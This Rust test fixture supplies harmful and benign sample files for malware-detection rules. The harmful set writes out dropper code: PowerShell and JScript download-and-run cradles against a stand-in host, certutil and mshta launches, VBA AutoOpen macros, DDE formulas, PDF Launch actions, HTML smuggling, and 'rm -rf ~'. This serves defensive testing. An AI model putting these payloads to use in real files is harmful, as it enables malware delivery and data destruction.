//! Files for the tests of the rules: harmful ones by the rule that finds them, and honest ones.

use crate::content::eicar::test_string;

/// A file.
#[derive(Clone)]
pub(super) struct Sample {
    pub(super) names: Vec<String>,
    pub(super) octets: Vec<u8>,
    pub(super) is_member: bool,
}

fn sample(name: &str, octets: impl AsRef<[u8]>) -> Sample {
    let names = if name.is_empty() { Vec::new() } else { vec![name.to_owned()] };
    Sample { names, octets: octets.as_ref().to_vec(), is_member: false }
}

fn member(name: &str, octets: impl AsRef<[u8]>) -> Sample {
    Sample { is_member: true, ..sample(name, octets) }
}

/// UTF-16, little endian, as Windows writes it.
fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// The headers of a Windows program.
pub(super) fn program() -> Vec<u8> {
    let mut octets = vec![0; 512];
    octets[..2].copy_from_slice(b"MZ");
    octets[60] = 128;
    octets[128..132].copy_from_slice(b"PE\0\0");
    octets
}

fn elf() -> Vec<u8> {
    [b"\x7fELF\x02\x01\x01".as_slice(), &[0; 120]].concat()
}

/// A shortcut with this target and these arguments.
fn shortcut(target: &str, arguments: &str) -> Vec<u8> {
    let header = [
        0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46, 0xab, 0, 0, 0, 0x20, 0, 0, 0,
    ];
    let strings = [target, arguments].map(|text| {
        let length = u16::try_from(text.encode_utf16().count()).unwrap_or(u16::MAX);
        [length.to_le_bytes().as_slice(), &wide(text)].concat()
    });
    [header.as_slice(), &[0; 48], &strings.concat()].concat()
}

/// A OneNote section with this embedded file.
fn onenote(embedded: &[u8]) -> Vec<u8> {
    let head =
        [0xe4, 0x52, 0x5c, 0x7b, 0x8c, 0xd8, 0xa7, 0x4d, 0xae, 0xb1, 0x53, 0x78, 0xd0, 0x29, 0x96, 0xd3];
    let file =
        [0xe7, 0x16, 0xe3, 0xbd, 0x65, 0x26, 0x11, 0x45, 0xa4, 0xc4, 0x8d, 0x4d, 0x0b, 0x7a, 0x9e, 0xac];
    let length = (embedded.len() as u64).to_le_bytes();
    [head.as_slice(), &[0; 1000], &file, &length, &[0; 12], embedded, &[0; 64]].concat()
}

fn ole(stream: &[u8]) -> Vec<u8> {
    [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".as_slice(), &[0; 504], stream].concat()
}

/// A page that saves these octets, which stand in it as base64, as a file.
fn smuggling(base64: &str) -> String {
    format!(
        "<html><body><script>var d=atob(\"{base64}\");var a=new Uint8Array(d.length);for(var i=0;i<d.length;i++)\
         a[i]=d.charCodeAt(i);var b=new Blob([a],{{type:'octet/stream'}});var l=document.createElement('a');\
         l.href=URL.createObjectURL(b);l.download='invoice.zip';l.click();</script></body></html>"
    )
}

const MACRO: &str = "Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n";

/// Each with the rule that finds it.
pub(super) fn harmful() -> Vec<(&'static str, Sample)> {
    let dropper = "var s = new ActiveXObject('WScript.Shell'); var x = new ActiveXObject('MSXML2.XMLHTTP');\n\
                   x.open('GET','http://a.example/x.exe',0); x.send(); s.Run('x.exe');";
    let zip = "UEsDBBQAAAAIAAAAIQDrWzCRBwAAAAUAAAAFAAAAYS50eHTLSM3JyQcA";
    vec![
        ("eicar_test_file", sample("a.bin", test_string())),
        (
            "eicar_test_file",
            sample("", [b"text before ".as_slice(), &test_string(), b" text behind"].concat()),
        ),
        ("program_named_document", sample("Invoice.PDF", program())),
        ("program_named_document", sample("photo.jpg. ", program())),
        ("program_named_document", sample("list.xlsx", elf())),
        ("program_named_document", sample("notes.docx", "#!/bin/sh\nrm -rf ~\n")),
        ("double_extension", sample("invoice.pdf.exe", program())),
        ("double_extension", sample("invoice.pdf          .js", "alert(1)")),
        ("turned_name", sample("ann\u{202e}fdp.exe", program())),
        (
            "macro_dropper",
            member("Module1.vba", format!("{MACRO}Shell \"powershell -w hidden -c calc\"\r\nEnd Sub")),
        ),
        (
            "macro_dropper",
            member(
                "word/vbaProject.bin/ThisWorkbook.vba",
                "Attribute VB_Name = \"ThisWorkbook\"\r\nPrivate Declare PtrSafe Function URLDownloadToFileA Lib \"urlmon\"\
                 \r\nPrivate Sub Workbook_Open()\r\nURLDownloadToFileA 0, u, f, 0, 0\r\nEnd Sub",
            ),
        ),
        (
            "macro_dropper",
            member(
                "M.vba",
                "Sub Document_Open()\nCreateObject(\"WScript.Shell\").Run f\nSet s = CreateObject(\"ADODB.Stream\")\nEnd Sub",
            ),
        ),
        (
            "macro_dropper",
            member(
                "M.vba",
                "Sub auto_open()\np = VirtualAlloc(0, n, &H1000, &H40)\nRtlMoveMemory p, b(0), n\nEnd Sub",
            ),
        ),
        ("macro_dropper", sample("a.doc", ole(b"\x01\xb0Attribut\0e VB_Nam\0e AutoOpen URLDownloadToFile"))),
        ("dde_command", sample("t.csv", "name,sum\r\n=cmd|' /C powershell -c calc'!A0,1\r\n")),
        (
            "dde_command",
            member(
                "word/document.xml",
                r#"<w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText>"#,
            ),
        ),
        (
            "rtf_equation_editor",
            sample("a.doc", r"{\rtf1{\object\objemb{\*\objclass Equation.3}{\*\objdata 01}}}"),
        ),
        (
            "rtf_equation_editor",
            sample(
                "a.doc",
                "{\\rt{\\object{\\*\\objdata 0105000002000000 0b000000 45 71 7561 74\r\n69 6f 6e2e33 00}}}",
            ),
        ),
        (
            "rtf_equation_editor",
            sample("a.doc", r"{\rtf1{\object{\*\objdata d0cf11e0 02ce020000000000c000000000000046}}}"),
        ),
        (
            "pdf_launch",
            sample(
                "a.pdf",
                "%PDF-1.4\n1 0 obj<</OpenAction<</S /Launch /Win<</F(cmd.exe)/P(/c calc)>>>>>>endobj",
            ),
        ),
        (
            "pdf_launch",
            sample(
                "a.pdf",
                "%PDF-1.7\n<</S/JavaScript/JS(this.exportDataObject({cName:'a.docm', nLaunch: 2});)>>",
            ),
        ),
        ("onenote_dropper", sample("a.one", onenote(&program()))),
        ("onenote_dropper", sample("a.one", onenote(b"<job><script language='vbscript'>x</script></job>"))),
        ("onenote_dropper", sample("", onenote(b"@echo off\r\ncurl http://a.example/x -o x.exe\r\n"))),
        ("onenote_dropper", sample("a.one", onenote(&shortcut("cmd.exe", "/c calc")))),
        ("script_dropper", sample("a.js", dropper)),
        ("script_dropper", sample("A.JSE", wide(dropper))),
        (
            "script_dropper",
            member("dir/x.wsf", format!("<job><script language='jscript'>{dropper}</script></job>")),
        ),
        (
            "script_dropper",
            sample(
                "a.vbs",
                "Set s=CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden http://a.example/x\"\r\n",
            ),
        ),
        ("script_dropper", sample("", format!("<HTA:APPLICATION id=a><script>{dropper}</script>"))),
        (
            "script_hidden",
            sample("a.vbs", format!("Set o = CreateObject(x)\r\nExecute ({})\r\n", "Chr(104) & ".repeat(30))),
        ),
        ("script_encoded", sample("a.vbe", "#@~^EAAAAA==\\ko$K6PEt+^VGJqAQAAA==^#~@")),
        (
            "powershell_dropper",
            sample("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://a.example/p')"),
        ),
        ("powershell_dropper", sample("a.ps1", "iwr http://a.example/p -UseBasicParsing | iex")),
        (
            "powershell_dropper",
            sample("a.ps1", wide("$b=[Convert]::FromBase64String($t);[Reflection.Assembly]::Load($b)")),
        ),
        (
            "powershell_dropper",
            sample("a.bat", format!("@echo off\r\npowershell -nop -enc {}\r\n", "SQBFAFgA".repeat(10))),
        ),
        (
            "powershell_dropper",
            sample("a.cmd", "certutil -urlcache -split -f http://a.example/x.exe x.exe\r\nstart x.exe\r\n"),
        ),
        (
            "shortcut_dropper",
            sample(
                "a.lnk",
                shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-w hidden iex $x"),
            ),
        ),
        (
            "shortcut_dropper",
            member("a.lnk", shortcut(r"C:\Windows\System32\mshta.exe", "https://a.example/x")),
        ),
        ("shortcut_dropper", sample("", shortcut(r"C:\Windows\System32\cmd.exe", "/c powershell -c calc"))),
        ("html_smuggling", sample("a.html", smuggling(zip))),
        ("html_smuggling", sample("", smuggling(&format!("TVqQAAMAAAAEAAAA{}", "A".repeat(64))))),
        (
            "html_smuggling",
            sample(
                "a.svg",
                "<svg xmlns='http://www.w3.org/2000/svg'><script>var a=new Uint8Array([80,75,3,4,20,0]);\
                 var b=new File([a],'a.zip');e.setAttribute(\"download\",'a.zip');e.href=URL.createObjectURL(b);\
                 e.dispatchEvent(new MouseEvent('click'))</script></svg>",
            ),
        ),
    ]
}

/// What must go on.
pub(super) fn honest() -> Vec<(&'static str, Sample)> {
    let talk = "How to stop droppers: block IEX (New-Object Net.WebClient).DownloadString('http://a.example'), look for \
                WScript.Shell with .Run and MSXML2.XMLHTTP, and for AutoOpen with Shell \"powershell\". Write `powershell -enc` \
                into your rules, and =cmd|' /C calc'!A0 too. A page with atob, Blob, createObjectURL and .click() smuggles.";
    vec![
        ("a mail about droppers", sample("", talk)),
        ("the same as a file", sample("droppers.txt", talk)),
        ("the same as a page", sample("droppers.html", format!("<html><body><p>{talk}</p></body></html>"))),
        ("a program that is called so", sample("setup.exe", program())),
        (
            "a script that is called so",
            sample("install.sh", "#!/bin/sh\nset -e\ncurl -O https://a.example/x.deb\n"),
        ),
        ("a script as text", sample("install.txt", "#!/bin/sh\necho hello\n")),
        ("a version in a name", sample("report.v1.2.pdf", "%PDF-1.7\n%%EOF")),
        ("a name from right to left", sample("\u{202b}חשבונית\u{202c}.pdf", "%PDF-1.7\n%%EOF")),
        (
            "macros of an office",
            member(
                "Module1.vba",
                "Attribute VB_Name = \"ThisWorkbook\"\nPrivate Sub Workbook_Open()\nSet d = CreateObject(\"Scripting.Dictionary\")\n\
                 Application.StatusBar = \"ready\"\nSheets(1).Activate\nEnd Sub\nSub Export()\nShell \"explorer.exe C:\\out\"\nEnd Sub",
            ),
        ),
        (
            "jQuery for old browsers",
            sample(
                "jquery.js",
                "window.ActiveXObject?new ActiveXObject('Microsoft.XMLHTTP'):new XMLHttpRequest();jQuery.fn.run=function(){eval(x)};\
                 new ActiveXObject('MSXML2.XMLHTTP');String.fromCharCode(65);",
            ),
        ),
        (
            "a script for the network",
            sample("logon.vbs", "CreateObject(\"WScript.Shell\").Run \"net use h: \\\\srv\\home\""),
        ),
        (
            "a script of an administrator",
            sample(
                "setup.ps1",
                "Invoke-WebRequest https://a.example/agent.msi -OutFile agent.msi\r\nStart-Process msiexec '/i agent.msi'\r\n\
                 Get-ChildItem | Where-Object { $_.Length -gt 1MB }\r\n",
            ),
        ),
        (
            "a batch file",
            sample("build.bat", "@echo off\r\ncd /d %~dp0\r\ncall npm install\r\nstart index.html\r\n"),
        ),
        ("a shortcut to a document", sample("a.lnk", shortcut(r"\\srv\share\Report.docx", ""))),
        (
            "the shortcut of PowerShell",
            sample(
                "Windows PowerShell.lnk",
                shortcut(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", ""),
            ),
        ),
        ("notes with a picture", sample("a.one", onenote(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"))),
        ("notes with a PDF", sample("a.one", onenote(b"%PDF-1.7\n%%EOF"))),
        (
            "an RTF text",
            sample("a.rtf", r"{\rtf1\ansi Equation editing: see \b equation 3\b0 and 45 71 75.}"),
        ),
        (
            "a PDF with links",
            sample(
                "a.pdf",
                "%PDF-1.7\n<</S/URI/URI(https://a.example/setup.exe)>> (Launch of the product) <</S/JavaScript/JS(print())>>",
            ),
        ),
        (
            "a newsletter",
            sample(
                "",
                format!(
                    "<html><body><img src=\"data:image/png;base64,iVBORw0KGgo{}\"><a href='https://a.example/download'>download</a>\
                     <script>document.querySelector('a').click()</script></body></html>",
                    "A".repeat(4000)
                ),
            ),
        ),
        (
            "a report that exports itself",
            sample(
                "report.html",
                "<html><script>function save(){var b=new Blob([csv],{type:'text/csv'});var a=document.createElement('a');\
                 a.href=URL.createObjectURL(b);a.download='data.csv';a.click();}var font=atob(\"d09GMgABAAAAA\");</script></html>",
            ),
        ),
        ("numbers", sample("numbers.csv", "name,sum\r\n-5,=A1+B1\r\ncmd,|x\r\n")),
        ("MZ in text", sample("zones.txt", "MZ Mozambique\nZM Zambia\n")),
    ]
}
